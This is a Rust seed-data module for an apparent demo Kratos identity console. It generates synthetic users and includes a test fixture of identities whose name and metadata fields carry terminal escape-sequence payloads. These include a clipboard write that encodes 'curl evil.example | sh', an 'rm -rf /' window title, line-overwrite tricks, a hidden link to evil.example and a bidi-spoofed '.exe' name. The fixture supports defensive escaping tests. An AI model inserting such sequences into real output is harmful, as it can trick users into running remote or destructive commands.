//! Seed data. Three sources:
//! - `assets/demo/identities.json`: 240 curated identities (written by
//!   `assets/demo/generate_identities.py`, deterministic), served as they are;
//! - [`Generator`]: more identities for `--seed-count N`, computed from their
//!   index alone and from the name lists in `assets/demo/names.json`, so that a
//!   million of them cost a few bytes each until one is read or written;
//! - [`hostile_identities`]: identities whose traits carry terminal escape
//!   sequences (`--hostile`).

use chrono::{DateTime, Duration, TimeZone, Utc};
use serde::Deserialize;
use serde_json::{Value, json};
use uuid::Uuid;

use super::model::{Credential, Identity, RecoveryAddress, Timestamp, VerifiableAddress};

const BASE_IDENTITIES: &str = include_str!("../../assets/demo/identities.json");
const NAME_LISTS: &str = include_str!("../../assets/demo/names.json");

/// The curated identities from `assets/demo/identities.json`.
pub fn base_identities() -> Result<Vec<Identity>, String> {
    serde_json::from_str(BASE_IDENTITIES)
        .map_err(|e| format!("assets/demo/identities.json is not a list of identities: {e}"))
}

#[derive(Deserialize)]
struct NameLists {
    first: Vec<(String, String)>,
    last: Vec<(String, String)>,
    domains: Vec<String>,
    providers: Vec<String>,
    plans: Vec<String>,
    locales: Vec<String>,
    tiers: Vec<String>,
}

/// Well-formed hashes of "demo-password" in formats Kratos imports, shared by
/// the generated identities (hashing a million passwords would take hours).
const GENERATED_HASHES: [&str; 3] = [
    "$pbkdf2-sha256$i=10000,l=32$AAECAwQFBgcICQoLDA0ODw$4r5lMTmQYIK//CGCHML9NdwL5Jq9o3zLHxbWQPssriw",
    "$scrypt$ln=16384,r=8,p=1$EBESExQVFhcYGRobHB0eHw==$KqTK+FaRZAXXNnuVDjgBEE+kh3eJmJpOoxLb0GYaQ7c=",
    "{SSHA256}gO1juqvr+SqOMGeSw7rFGcvmUHOUN45XOkNvZIUTV00gISIjJCUmJygpKissLS4v",
];

/// The keys a generated identity occupies in the store's indexes, computed
/// without building the identity.
#[derive(Debug, Clone, PartialEq)]
pub struct GeneratedKeys {
    pub id: Uuid,
    pub identifiers: Vec<String>,
    pub external_id: Option<String>,
    pub issuance_token: Option<String>,
}

/// Builds generated identity number `n` (0-based) on demand, deterministically.
pub struct Generator {
    names: NameLists,
    epoch: DateTime<Utc>,
}

/// A bijection on u64 (splitmix64's finaliser), so distinct indexes give distinct ids.
fn mix(mut x: u64) -> u64 {
    x = (x ^ (x >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^ (x >> 31)
}

/// A UUID v4-shaped id that is unique per `(n, salt)`: all 64 bits of a
/// bijective mix of `n` survive the version and variant bits.
fn derived_uuid(n: u64, salt: u64) -> Uuid {
    let m = mix(n ^ salt.rotate_left(17));
    let r = mix(n.wrapping_add(salt).wrapping_mul(0x9e37_79b9_7f4a_7c15));
    let mut bytes = [0u8; 16];
    bytes[0..6].copy_from_slice(&m.to_be_bytes()[0..6]);
    bytes[6] = 0x40 | (r as u8 & 0x0f);
    bytes[7] = (r >> 8) as u8;
    bytes[8] = 0x80 | ((r >> 16) as u8 & 0x3f);
    bytes[9..11].copy_from_slice(&m.to_be_bytes()[6..8]);
    bytes[11..16].copy_from_slice(&r.to_be_bytes()[3..8]);
    Uuid::from_bytes(bytes)
}

const SALT_IDENTITY: u64 = 0x1dc0de;
const SALT_EMAIL_ADDRESS: u64 = 0xe3a11;
const SALT_PHONE_ADDRESS: u64 = 0x5050;
const SALT_RECOVERY_ADDRESS: u64 = 0xec0ffe;

impl Generator {
    pub fn new() -> Result<Self, String> {
        let names: NameLists = serde_json::from_str(NAME_LISTS).map_err(|e| format!("assets/demo/names.json: {e}"))?;
        let lists_filled = !names.first.is_empty()
            && !names.last.is_empty()
            && !names.domains.is_empty()
            && !names.providers.is_empty()
            && !names.plans.is_empty()
            && !names.locales.is_empty()
            && !names.tiers.is_empty();
        if !lists_filled {
            return Err("assets/demo/names.json: every list must have entries".into());
        }
        let epoch = Utc
            .with_ymd_and_hms(2024, 1, 1, 0, 0, 0)
            .single()
            .ok_or("invalid generator epoch")?;
        Ok(Self { names, epoch })
    }

    fn pick<T>(list: &[T], n: u64, salt: u64) -> &T {
        // Lists are checked non-empty in `new`.
        &list[(mix(n ^ salt) % list.len() as u64) as usize]
    }

    fn is_phone_schema(n: u64) -> bool {
        n % 4 == 3
    }

    fn email(&self, n: u64) -> String {
        let (_, first) = Self::pick(&self.names.first, n, 1);
        let (_, last) = Self::pick(&self.names.last, n, 2);
        let domain = Self::pick(&self.names.domains, n, 3);
        format!("{first}.{last}.{n}@{domain}")
    }

    fn phone(n: u64) -> String {
        format!("+1555{:07}", n % 10_000_000)
    }

    fn oidc_subject(&self, n: u64) -> Option<(String, String)> {
        (n % 5 == 2).then(|| {
            let provider = Self::pick(&self.names.providers, n, 4).clone();
            (provider, format!("{}", 100_000_000_000_000_000u64 + n))
        })
    }

    fn external_id(n: u64) -> Option<String> {
        (n % 6 == 5).then(|| format!("gen-ext-{n:07}"))
    }

    fn issuance_token(n: u64) -> Option<String> {
        (n % 8 == 3).then(|| format!("gen-issuance-{n:07}"))
    }

    /// The index keys of identity `n`; equal to what [`Generator::identity`] holds.
    pub fn keys(&self, n: u64) -> GeneratedKeys {
        let email = self.email(n);
        let mut identifiers = vec![email];
        if Self::is_phone_schema(n) {
            identifiers.push(Self::phone(n));
        }
        if let Some((provider, subject)) = self.oidc_subject(n) {
            identifiers.push(format!("{provider}:{subject}"));
        }
        GeneratedKeys {
            id: derived_uuid(n, SALT_IDENTITY),
            identifiers,
            external_id: Self::external_id(n),
            issuance_token: Self::issuance_token(n),
        }
    }

    /// Generated identity `n`, whole.
    pub fn identity(&self, n: u64) -> Identity {
        let created = Timestamp(
            self.epoch
                + Duration::seconds((n * 17) as i64)
                + Duration::microseconds(((mix(n) % 1_000_000) as i64).max(1)),
        );
        let updated = Timestamp(created.0 + Duration::minutes((mix(n ^ 9) % 200_000) as i64));
        let (first, _) = Self::pick(&self.names.first, n, 1);
        let (last, _) = Self::pick(&self.names.last, n, 2);
        let email = self.email(n);
        let phone_schema = Self::is_phone_schema(n);
        let inactive = n % 10 == 9;

        let mut verifiable = vec![address(
            derived_uuid(n, SALT_EMAIL_ADDRESS),
            &email,
            "email",
            !n.is_multiple_of(3),
            created,
        )];
        let mut recovery = Vec::new();
        let mut password_identifiers = vec![email.clone()];
        let traits;
        let schema_id;
        let mut credentials = std::collections::BTreeMap::new();
        if phone_schema {
            let phone = Self::phone(n);
            traits = json!({ "email": email, "phone": phone });
            schema_id = "phone-password";
            verifiable.push(address(
                derived_uuid(n, SALT_PHONE_ADDRESS),
                &phone,
                "sms",
                n.is_multiple_of(2),
                created,
            ));
            password_identifiers.push(phone);
            credentials.insert(
                "code".to_owned(),
                credential(
                    "code",
                    vec![email.clone()],
                    json!({"addresses": [{"channel": "email", "address": email}]}),
                    1,
                    created,
                ),
            );
        } else {
            traits = json!({ "email": email, "name": { "first": first, "last": last } });
            schema_id = "email-password";
            recovery.push(RecoveryAddress {
                id: derived_uuid(n, SALT_RECOVERY_ADDRESS),
                value: email.clone(),
                via: "email".into(),
                created_at: created,
                updated_at: created,
            });
        }
        credentials.insert(
            "password".to_owned(),
            credential(
                "password",
                password_identifiers,
                json!({ "hashed_password": GENERATED_HASHES[(n % 3) as usize] }),
                1,
                created,
            ),
        );
        if let Some((provider, subject)) = self.oidc_subject(n) {
            credentials.insert(
                "oidc".to_owned(),
                credential(
                    "oidc",
                    vec![format!("{provider}:{subject}")],
                    json!({"providers": [{
                        "subject": subject,
                        "provider": provider,
                        "initial_id_token": "",
                        "initial_access_token": "",
                        "initial_refresh_token": ""
                    }]}),
                    0,
                    created,
                ),
            );
        }

        let metadata_public = match n % 5 {
            0 => Value::Null,
            1 => json!({}),
            _ => json!({
                "plan": Self::pick(&self.names.plans, n, 5),
                "locale": Self::pick(&self.names.locales, n, 6),
            }),
        };
        let mut metadata_admin = match n % 4 {
            0 => Value::Null,
            1 => json!({ "crm_id": format!("CRM-G{n:07}") }),
            _ => json!({
                "crm_id": format!("CRM-G{n:07}"),
                "support_tier": Self::pick(&self.names.tiers, n, 7),
            }),
        };
        if let Some(token) = Self::issuance_token(n) {
            metadata_admin["yoti"] = json!({
                "issuance_token": token,
                "attributes": { "com.example.membership_level": "standard" },
            });
        }

        Identity {
            id: derived_uuid(n, SALT_IDENTITY),
            credentials,
            schema_id: schema_id.to_owned(),
            state: if inactive { "inactive" } else { "active" }.to_owned(),
            state_changed_at: Some(if inactive { updated } else { created }),
            traits,
            verifiable_addresses: verifiable,
            recovery_addresses: recovery,
            metadata_public,
            metadata_admin,
            created_at: created,
            updated_at: updated,
            organization_id: None,
            external_id: Self::external_id(n),
        }
    }
}

fn address(id: Uuid, value: &str, via: &str, verified: bool, at: Timestamp) -> VerifiableAddress {
    VerifiableAddress {
        id,
        value: value.to_owned(),
        verified,
        via: via.to_owned(),
        status: if verified { "completed" } else { "pending" }.to_owned(),
        created_at: at,
        updated_at: at,
        verified_at: verified.then(|| Timestamp(at.0 + Duration::minutes(7))),
    }
}

fn credential(kind: &str, identifiers: Vec<String>, config: Value, version: i64, at: Timestamp) -> Credential {
    Credential {
        kind: kind.to_owned(),
        identifiers,
        config,
        version,
        created_at: at,
        updated_at: at,
    }
}

/// Identities whose traits carry terminal escape sequences: OSC 52 (clipboard
/// write), OSC 0 (window title), CSI 2J (clear screen), BEL, CR (overwrite the
/// line), C1 CSI (U+009B). Their e-mail addresses stay valid so that a console
/// can still save them; the payloads sit in names, metadata and external ids.
pub fn hostile_identities() -> Vec<Identity> {
    let payloads: [(&str, &str, &str); 7] = [
        (
            "osc52",
            "Mallory\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}",
            "Clipboard",
        ),
        ("osc0", "Eve\u{1b}]0;root@prod: rm -rf /\u{7}", "Title"),
        ("csi2j", "Trudy\u{1b}[2J\u{1b}[H", "Clear\u{1b}[31mRed"),
        ("bel", "Beep\u{7}\u{7}\u{7}", "Bell"),
        ("cr", "Innocent\rADMIN  ", "Overwrite"),
        ("c1csi", "Cee\u{9b}31mOne", "\u{9b}2J"),
        (
            "mixed",
            "\u{1b}]8;;https://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
            "Bidi\u{202e}gnp.exe",
        ),
    ];
    let at = Timestamp(Utc.with_ymd_and_hms(2024, 6, 1, 12, 0, 0).single().unwrap_or_default());
    payloads
        .iter()
        .enumerate()
        .map(|(i, (tag, first, last))| {
            let n = i as u64;
            let email = format!("hostile.{tag}@example.com");
            let mut credentials = std::collections::BTreeMap::new();
            credentials.insert(
                "password".to_owned(),
                credential(
                    "password",
                    vec![email.clone()],
                    json!({ "hashed_password": GENERATED_HASHES[0] }),
                    1,
                    at,
                ),
            );
            Identity {
                id: derived_uuid(n, 0xbad),
                credentials,
                schema_id: "email-password".into(),
                state: "active".into(),
                state_changed_at: Some(at),
                traits: json!({ "email": email, "name": { "first": first, "last": last } }),
                verifiable_addresses: vec![address(
                    derived_uuid(n, 0xbad1),
                    &email,
                    "email",
                    false,
                    at,
                )],
                recovery_addresses: vec![RecoveryAddress {
                    id: derived_uuid(n, 0xbad2),
                    value: email.clone(),
                    via: "email".into(),
                    created_at: at,
                    updated_at: at,
                }],
                metadata_public: json!({ "note": format!("{first} {last}"), format!("key\u{1b}[7m{tag}"): "value\u{7}" }),
                metadata_admin: json!({ "ticket": format!("\u{1b}]52;c;{tag}\u{7}") }),
                created_at: at,
                updated_at: at,
                organization_id: None,
                external_id: Some(format!("hostile-\u{1b}[5m{tag}")),
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generated_keys_match_the_generated_identity() {
        let Ok(generator) = Generator::new() else {
            panic!("name lists load")
        };
        for n in (0..400).chain([999_999, 123_457]) {
            let keys = generator.keys(n);
            let identity = generator.identity(n);
            assert_eq!(keys.id, identity.id);
            let mut from_identity: Vec<String> = identity.all_identifiers().into_iter().map(str::to_owned).collect();
            from_identity.sort();
            let mut from_keys = keys.identifiers.clone();
            from_keys.sort();
            assert_eq!(from_keys, from_identity, "identity {n}");
            assert_eq!(keys.external_id, identity.external_id);
            assert_eq!(keys.issuance_token.as_deref(), identity.issuance_token());
        }
    }

    #[test]
    fn generated_ids_are_distinct_and_deterministic() {
        let mut seen = std::collections::HashSet::new();
        for n in 0..200_000 {
            assert!(seen.insert(derived_uuid(n, SALT_IDENTITY)), "duplicate at {n}");
        }
        let Ok(a) = Generator::new() else { panic!() };
        let Ok(b) = Generator::new() else { panic!() };
        assert_eq!(a.identity(4242), b.identity(4242));
    }

    #[test]
    fn base_seed_is_large_and_varied() {
        let identities = match base_identities() {
            Ok(list) => list,
            Err(e) => panic!("{e}"),
        };
        assert!(identities.len() >= 200);
        let schemas: std::collections::HashSet<&str> = identities.iter().map(|i| i.schema_id.as_str()).collect();
        assert!(schemas.contains("email-password") && schemas.contains("phone-password"));
        assert!(identities.iter().any(|i| i.state == "inactive"));
        assert!(identities.iter().any(|i| i.credentials.contains_key("oidc")));
        assert!(identities.iter().any(|i| i.issuance_token().is_some()));
    }
}

#[cfg(test)]
mod consistency {
    use super::super::schema::Schemas;
    use super::*;

    /// Every seeded identity must be one Kratos could hold: traits valid for
    /// its schema, identifiers and addresses as the schema derives them.
    fn assert_consistent(schemas: &Schemas, identity: &Identity) {
        let Some(schema) = schemas.get(&identity.schema_id) else {
            panic!("{}: unknown schema {}", identity.id, identity.schema_id)
        };
        if let Err(e) = schema.validate(&identity.traits) {
            panic!("{}: {:?}", identity.id, e.reason)
        }
        let derived = schema.derive(&identity.traits);
        for (kind, identifiers) in &derived.identifiers {
            let stored = identity.credentials.get(kind).map(|c| &c.identifiers);
            assert_eq!(stored, Some(identifiers), "{} {kind}", identity.id);
        }
        let verifiable: Vec<(String, String)> = identity
            .verifiable_addresses
            .iter()
            .map(|a| (a.value.clone(), a.via.clone()))
            .collect();
        assert_eq!(verifiable, derived.verifiable, "{}", identity.id);
        let recovery: Vec<(String, String)> = identity
            .recovery_addresses
            .iter()
            .map(|a| (a.value.clone(), a.via.clone()))
            .collect();
        assert_eq!(recovery, derived.recovery, "{}", identity.id);
    }

    #[test]
    fn every_seeded_identity_is_one_kratos_could_hold() {
        let schemas = match Schemas::load() {
            Ok(s) => s,
            Err(e) => panic!("{e}"),
        };
        let Ok(base) = base_identities() else {
            panic!("base seed")
        };
        let Ok(generator) = Generator::new() else {
            panic!("generator")
        };
        for identity in base
            .iter()
            .cloned()
            .chain(hostile_identities())
            .chain((0..500).map(|n| generator.identity(n)))
        {
            assert_consistent(&schemas, &identity);
        }
    }
}
